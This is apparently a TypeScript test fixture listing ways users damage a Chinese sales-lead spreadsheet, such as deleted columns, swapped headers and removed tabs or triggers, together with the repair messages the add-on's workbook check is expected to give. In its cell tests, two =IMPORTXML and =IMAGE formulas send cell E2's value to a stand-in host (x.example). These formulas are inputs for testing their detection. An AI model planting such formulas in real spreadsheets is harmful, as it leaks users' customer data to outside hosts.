import { unseen } from '../../helpers/unseen';
import type { TestBook } from '../../helpers/workbook';

/** One way in which people damage a workbook without meaning to. */
export interface Damage {
  readonly name: string;
  readonly damage: (book: TestBook) => unknown;
  /** What "Check workbook" says, in Chinese; '' = nothing has to be said. */
  readonly told: string;
  /** Answers to the questions of the check, before its last message. */
  readonly answers?: readonly ('YES' | 'NO')[];
  /** Columns of the team that nobody can give back. */
  readonly lost?: readonly string[];
  /** The table is not the same afterwards: what is true of it stands in `holds`. */
  readonly fresh?: true;
  /** Headers that a person gave to columns of ours, by their text: they stay. */
  readonly names?: Readonly<Record<string, string>>;
  /** What must be true afterwards beside the same table; false fails. */
  readonly holds?: (book: TestBook) => boolean;
}

const LEADS = '线索登记表';
const FOLLOW_UPS = '线索跟进计划表';
const HISTORY = '变更记录';
const MEMORY = 'leadbook-memory';

const letters = (book: TestBook, column: string): string => book.place('leads', 1, column).replace(/\d+/, '');
const number = (text: string): number => [...text].reduce((sum, one) => sum * 26 + one.charCodeAt(0) - 64, 0);
const at = (book: TestBook, column: string): number => number(letters(book, column));

/** Types a header without any trigger seeing it. */
function header(book: TestBook, column: string, text: string): void {
  unseen(book, () => book.desk.type(LEADS, book.place('leads', 1, column), text));
}

function whole(book: TestBook, column: string): string {
  return `${letters(book, column)}1:${letters(book, column)}${book.file.tab(LEADS).rowCount}`;
}

/** The clock fires before anybody checks. */
function fireClock(book: TestBook): void {
  const clock = book.file.triggers.find(({ kind }) => kind === 'clock');
  if (clock === undefined) throw new Error('No clock trigger');
  book.world.fire(book.file, clock);
}

export const columnDamages: readonly Damage[] = [
  {
    name: 'a column of ours deleted',
    damage: (book) => book.desk.deleteColumns(LEADS, at(book, 'source'), 1),
    told: '补回',
  },
  {
    name: 'five columns deleted',
    damage: (book) => book.desk.deleteColumns(LEADS, at(book, 'source'), 5),
    told: '补回',
  },
  { name: 'the id column deleted', damage: (book) => book.desk.deleteColumns(LEADS, 1, 1), told: '补回' },
  { name: 'the name column deleted', damage: (book) => book.desk.deleteColumns(LEADS, 2, 1), told: '补回' },
  {
    name: 'a column renamed',
    damage: (book) => header(book, 'source', '客户从哪来'),
    told: '',
    names: { 客户从哪来: 'source' },
  },
  { name: 'a header blanked', damage: (book) => header(book, 'need', ''), told: '表头' },
  {
    name: 'a header overwritten by that of another column',
    damage: (book) => header(book, 'source', '需求描述'),
    told: '表头',
  },
  {
    name: 'all headers cleared, those of the team too',
    damage: (book) => book.desk.clear(LEADS, 'A1:AZ1'),
    told: '表头',
    names: { '': '?内部评分' },
  },
  {
    name: 'two headers swapped',
    damage: (book) => {
      const [one, other] = [book.place('leads', 1, 'source'), book.place('leads', 1, 'need')];
      unseen(book, () => {
        book.desk.type(LEADS, one, '需求描述');
        book.desk.type(LEADS, other, '线索来源');
      });
    },
    told: '表头',
  },
  {
    name: 'two headers swapped, and the hourly run before anybody checks',
    damage: (book) => {
      const [one, other] = [book.place('leads', 1, 'source'), book.place('leads', 1, 'need')];
      unseen(book, () => {
        book.desk.type(LEADS, one, '需求描述');
        book.desk.type(LEADS, other, '线索来源');
      });
      fireClock(book);
    },
    told: '',
  },
  {
    name: 'a column copied beside itself, header and all',
    damage: (book) => {
      const place = at(book, 'source');
      book.desk.insertColumns(LEADS, place + 1, 1);
      const copied = book.desk.copy(LEADS, whole(book, 'source'));
      unseen(book, () => book.desk.pasteCopied(copied, LEADS, { a1: `${columnOf(place + 1)}1`, mode: 'all' }));
    },
    told: '两列',
    names: { '线索来源 2': '' },
  },
  {
    name: 'the ids of contacts blanked after the marks of columns went: the header tells their column, and they come back',
    damage: (book) => {
      book.file.tab(FOLLOW_UPS).metadata.length = 0;
      unseen(book, () => book.desk.clear(FOLLOW_UPS, 'O2:O9'));
    },
    told: '列的内部标记',
  },
  {
    name: 'columns made typed ones of a table, which take no rule and no format',
    damage: (book) => {
      for (const key of ['source', 'phone', 'nextContactOn', 'reminder']) makeTyped(book, at(book, key));
    },
    told: '是表格的类型列',
  },
  {
    name: 'the column of ids made a typed one and then deleted',
    damage: (book) => {
      makeTyped(book, 1);
      book.desk.deleteColumns(LEADS, 1, 1);
    },
    told: '补回',
  },
  {
    name: 'a column moved to the front',
    damage: (book) => book.desk.moveColumns(LEADS, at(book, 'stage'), 1, 1),
    told: '',
  },
  {
    name: 'a column cut and pasted at the right end, where its mark does not follow',
    damage: (book) => {
      const copied = book.desk.copy(LEADS, whole(book, 'source'));
      const end = book.file.tab(LEADS).columnCount + 1;
      book.desk.insertColumns(LEADS, end, 1);
      const old = whole(book, 'source');
      unseen(book, () => {
        book.desk.pasteCopied(copied, LEADS, { a1: `${columnOf(end)}1`, mode: 'all' });
        book.desk.clear(LEADS, old);
      });
    },
    told: '',
  },
];

/** "Convert to table" gives a column a type: its own rules go, and scripts may set none. */
export function makeTyped(book: TestBook, place: number, tab = LEADS): void {
  const sheet = book.file.tab(tab);
  sheet.typedColumns.add(place);
  for (const cells of sheet.rows) {
    const { validation: _validation, ...rest } = cells[place - 1] ?? { value: null };
    if (cells[place - 1] !== undefined) cells[place - 1] = rest;
  }
}

function columnOf(place: number): string {
  let rest = place;
  let text = '';
  while (rest > 0) {
    text = String.fromCharCode(65 + ((rest - 1) % 26)) + text;
    rest = Math.floor((rest - 1) / 26);
  }
  return text;
}

export const headerDamages: readonly Damage[] = [
  {
    name: 'a header typed over with that of another column, seen by the trigger',
    damage: (book) => book.desk.type(LEADS, book.place('leads', 1, 'source'), '需求描述'),
    told: '检查了',
    holds: (book) => book.desk.toasts.some(({ message }) => message.includes('线索来源')),
  },
  {
    name: 'two headers swapped by one paste, seen by the trigger',
    damage: (book) => book.desk.paste(LEADS, book.place('leads', 1, 'source'), [['需求描述', '线索来源']]),
    told: '检查了',
    holds: (book) => book.desk.toasts.length > 0,
  },
  {
    name: 'a column copied beside itself, seen by the trigger',
    damage: (book) => {
      const place = at(book, 'source');
      book.desk.insertColumns(LEADS, place + 1, 1);
      const copied = book.desk.copy(LEADS, whole(book, 'source'));
      book.desk.pasteCopied(copied, LEADS, { a1: `${columnOf(place + 1)}1`, mode: 'all' });
    },
    told: '检查了',
    names: { '线索来源 2': '' },
  },
  {
    name: 'a header pushed down, and the clock before anybody checks',
    damage: (book) => {
      book.desk.insertRows(LEADS, 1, 1);
      fireClock(book);
    },
    told: '表头',
  },
  {
    name: 'a header pushed down, and a lead edited before anybody checks',
    damage: (book) => {
      book.desk.insertRows(LEADS, 1, 1);
      book.desk.type(LEADS, 'A10', '');
    },
    told: '表头',
  },
];

export const rowDamages: readonly Damage[] = [
  {
    name: 'a row inserted above the header',
    damage: (book) => {
      book.file.tab(LEADS).frozenRows = 0;
      book.desk.insertRows(LEADS, 1, 1);
    },
    told: '表头',
  },
  {
    name: 'three rows with a title inserted above the header',
    damage: (book) => {
      book.desk.insertRows(LEADS, 1, 3);
      book.desk.type(LEADS, 'A1', '2024年线索总表');
    },
    told: '表头',
  },
  {
    name: 'the header sorted into the data',
    damage: (book) => {
      book.file.tab(LEADS).frozenRows = 0;
      book.desk.sort(LEADS, { column: 2, ascending: false });
    },
    told: '表头',
    holds: (book) => book.file.tab(LEADS).frozenRows === 1,
  },
  {
    name: 'the header row deleted',
    damage: (book) => book.desk.deleteRows(LEADS, 1, 1),
    told: '表头',
    names: { '': '?内部评分' },
  },
  {
    name: 'the frozen row gone',
    damage: (book) => {
      book.file.tab(LEADS).frozenRows = 0;
    },
    told: '冻结表头',
  },
  {
    name: 'the sheet sorted by need',
    damage: (book) => book.desk.sort(LEADS, { column: at(book, 'need'), ascending: true }),
    told: '',
  },
  { name: 'blank rows in the middle', damage: (book) => book.desk.insertRows(LEADS, 4, 3), told: '' },
  {
    name: 'rows cut and pasted far below',
    damage: (book) => book.desk.cutRows(LEADS, 3, 2, 20),
    told: '',
  },
];

export const lookDamages: readonly Damage[] = [
  {
    name: 'dropdowns wiped by a paste from outside',
    damage: (book) =>
      book.desk.paste(LEADS, book.place('leads', 2, 'source'), [['展会'], ['社交媒体'], ['陌拜']], { mode: 'all' }),
    told: '下拉列表',
  },
  {
    name: 'a dropdown replaced by that of another column',
    damage: (book) => {
      const copied = book.desk.copy(LEADS, book.place('leads', 2, 'grade'));
      unseen(book, () => book.desk.pasteCopied(copied, LEADS, { a1: book.place('leads', 2, 'stage'), mode: 'all' }));
      unseen(book, () => book.desk.type(LEADS, book.place('leads', 2, 'stage'), '初次接触'));
    },
    told: '下拉列表',
  },
  {
    name: 'dates shown as numbers',
    damage: (book) =>
      book.desk.setFormat(LEADS, `${letters(book, 'nextContactOn')}2:${letters(book, 'nextContactOn')}7`, '0'),
    told: '数字格式',
  },
  {
    name: 'the text format of phones and budgets lost',
    damage: (book) => {
      for (const column of ['phone', 'budget', 'decisionCycle']) {
        book.desk.setFormat(LEADS, `${letters(book, column)}2:${letters(book, column)}900`, '');
      }
    },
    told: '数字格式',
  },
  {
    name: 'colour rules of ours doubled',
    damage: (book) => {
      const rules = book.file.tab(LEADS).conditionalRules;
      rules.push(...rules.map((rule) => ({ ...rule })));
    },
    told: '到期颜色',
    holds: (book) => book.file.tab(LEADS).conditionalRules.length === 2,
  },
  {
    name: 'colour rules cut into pieces by copying rows',
    damage: (book) => {
      const rules = book.file.tab(LEADS).conditionalRules;
      for (const rule of [...rules]) rules.push({ ...rule, areas: [{ row: 4, column: 1, rows: 1, columns: 5 }] });
    },
    told: '到期颜色',
    holds: (book) => book.file.tab(LEADS).conditionalRules.length === 2,
  },
];

export const idDamages: readonly Damage[] = [
  {
    name: 'ids filled down',
    damage: (book) => unseen(book, () => book.desk.fill(LEADS, 'A2', 'A2:A7')),
    told: '',
  },
  { name: 'ids blanked', damage: (book) => unseen(book, () => book.desk.clear(LEADS, 'A2:A7')), told: '' },
  {
    name: 'ids typed over',
    damage: (book) =>
      unseen(book, () => {
        book.desk.type(LEADS, 'A3', 'X-1');
        book.desk.type(LEADS, 'A4', '12');
      }),
    told: '',
  },
  {
    name: 'a row copied, and the copy taken away again',
    damage: (book) => {
      unseen(book, () => book.desk.pasteCopied(book.desk.copy(LEADS, 'A2:AZ2'), LEADS, { a1: 'A20', mode: 'all' }));
      unseen(book, () => book.desk.clear(LEADS, 'A20:AZ20'));
    },
    told: '',
  },
  {
    name: 'follow-up ids blanked',
    damage: (book) => unseen(book, () => book.desk.clear('线索跟进计划表', 'O2:O4')),
    told: '',
  },
];

export const tabDamages: readonly Damage[] = [
  { name: 'Leads renamed', damage: (book) => book.desk.renameTab(LEADS, '客户总表'), told: '' },
  { name: 'Leads duplicated', damage: (book) => book.desk.duplicateTab(LEADS), told: '副本' },
  {
    name: 'Leads deleted',
    damage: (book) => book.desk.deleteTab(LEADS),
    answers: ['YES'],
    told: '放回 6 行',
    lost: ['?内部评分'],
  },
  {
    name: 'Leads deleted, and nobody sure',
    damage: (book) => book.desk.deleteTab(LEADS),
    answers: ['NO', 'NO'],
    told: '什么都没有写入',
    fresh: true,
    holds: (book) => !book.file.tabNames().includes(LEADS),
  },
  {
    name: 'Leads deleted, and the clock before anybody checks',
    damage: (book) => {
      book.desk.deleteTab(LEADS);
      fireClock(book);
    },
    answers: ['YES'],
    told: '放回 6 行',
    lost: ['?内部评分'],
  },
  {
    name: 'every row cleared, and the clock before anybody checks',
    damage: (book) => {
      unseen(book, () => book.desk.clear(LEADS, 'A2:AZ900'));
      fireClock(book);
    },
    answers: ['YES'],
    told: '放回 6 行',
    lost: ['?内部评分'],
  },
  {
    name: 'every row deleted on purpose',
    damage: (book) => book.desk.deleteRows(LEADS, 2, 6),
    answers: ['NO', 'YES'],
    told: '检查了',
    fresh: true,
    holds: (book) => book.history().filter(({ kind }) => kind === '行已删除').length === 6,
  },
  {
    name: 'Follow-ups deleted',
    damage: (book) => book.desk.deleteTab('线索跟进计划表'),
    answers: ['YES'],
    told: '放回 3 行',
  },
  { name: 'memory deleted', damage: (book) => book.desk.deleteTab(MEMORY), told: MEMORY },
  { name: 'memory sorted', damage: (book) => book.desk.sort(MEMORY, { column: 2, ascending: false }), told: '' },
  {
    name: 'memory shown',
    damage: (book) => {
      book.file.tab(MEMORY).hidden = false;
    },
    told: '重新隐藏',
  },
  { name: 'memory duplicated', damage: (book) => book.desk.duplicateTab(MEMORY), told: '副本' },
  { name: 'memory lines edited', damage: (book) => book.desk.type(MEMORY, 'B3', '什么'), told: '' },
  { name: 'memory lines deleted', damage: (book) => book.desk.deleteRows(MEMORY, 2, 3), told: '' },
  { name: 'memory keys filled down', damage: (book) => book.desk.fill(MEMORY, 'A2', 'A2:A5'), told: '' },
  ...['变更记录', '今日提醒', '待核对', '使用指南', '转化分析表', '设置'].map(
    (name): Damage => ({ name: `${name} deleted`, damage: (book) => book.desk.deleteTab(name), told: name }),
  ),
  { name: 'History duplicated', damage: (book) => book.desk.duplicateTab(HISTORY), told: '副本' },
  {
    name: 'a row of Settings deleted',
    damage: (book) => book.desk.deleteRows('设置', 6, 1),
    told: '设置',
  },
  {
    name: 'a key of Settings changed',
    damage: (book) => unseen(book, () => book.desk.type('设置', 'A7', 'mine')),
    told: '设置',
  },
  {
    name: 'a row inserted above Settings',
    damage: (book) => book.desk.insertRows('设置', 1, 1),
    told: '设置',
  },
  {
    name: 'the protection of Settings removed',
    damage: (book) => {
      book.file.tab('设置').protections.length = 0;
    },
    told: '保护',
    holds: (book) => book.file.tab('设置').protections.length === 1,
  },
  {
    name: 'every trigger deleted',
    damage: (book) => {
      book.file.triggers.length = 0;
    },
    told: '自动任务',
    holds: (book) => book.file.triggers.length === 2,
  },
];

export const fileDamages: readonly Damage[] = [
  {
    name: 'the zone of the file changed',
    damage: (book) => {
      book.file.workbook.timeZone = 'America/New_York';
    },
    told: '',
  },
  {
    name: 'the locale of the file changed',
    damage: (book) => {
      book.file.workbook.locale = 'de_DE';
    },
    told: '',
    fresh: true,
    holds: (book) => book.stored('leads', 5)['amount'] === 120000,
  },
];

export const cellDamages: readonly Damage[] = [
  {
    name: 'a formula that reaches outside, turned into text',
    damage: (book) =>
      book.desk.type(LEADS, book.place('leads', 2, 'notes'), '=IMPORTXML("https://x.example/?"&E2;"//a")'),
    answers: ['YES'],
    told: '已改成值或文字',
    fresh: true,
    holds: (book) =>
      book.file.formula(LEADS, book.place('leads', 2, 'notes')) === '' &&
      book.shown('leads', 2)['notes']?.startsWith('=IMPORTXML') === true,
  },
  {
    name: 'a formula that reaches outside, kept',
    damage: (book) => book.desk.type(LEADS, book.place('leads', 2, 'notes'), '=IMAGE("https://x.example/?"&E2)'),
    answers: ['NO'],
    told: '仍保留',
    fresh: true,
    holds: (book) => book.file.formula(LEADS, book.place('leads', 2, 'notes')).startsWith('=IMAGE'),
  },
  {
    name: 'formulas in place of ids',
    damage: (book) =>
      unseen(book, () => {
        book.desk.setFormat(LEADS, 'A3', '');
        book.desk.type(LEADS, 'A3', '="LX20240305-0"&(ROW()-1)');
      }),
    told: '已改成值或文字',
    holds: (book) => book.file.formula(LEADS, 'A3') === '',
  },
  {
    name: 'a formula in a column that the add-on fills',
    damage: (book) => unseen(book, () => book.desk.type(LEADS, book.place('leads', 2, 'followUpCount'), '=1+0')),
    told: '',
    holds: (book) => book.file.formula(LEADS, book.place('leads', 2, 'followUpCount')) === '',
  },
  {
    name: 'names of two leads merged, taken apart',
    damage: (book) => book.desk.merge(LEADS, 'B3:B4'),
    answers: ['YES'],
    told: '已取消合并',
  },
  {
    name: 'whole rows merged, with the clock before anybody checks',
    damage: (book) => {
      book.desk.merge(LEADS, 'A3:C5');
      fireClock(book);
    },
    answers: ['YES'],
    told: '已取消合并',
  },
  {
    name: 'ids merged, kept',
    damage: (book) => book.desk.merge(LEADS, 'A3:A4'),
    answers: ['NO'],
    told: '仍保留',
    fresh: true,
    holds: (book) => book.history().every(({ kind }) => kind !== '行已删除'),
  },
];

export const damages = [
  ...columnDamages,
  ...headerDamages,
  ...rowDamages,
  ...lookDamages,
  ...cellDamages,
  ...idDamages,
  ...tabDamages,
  ...fileDamages,
];
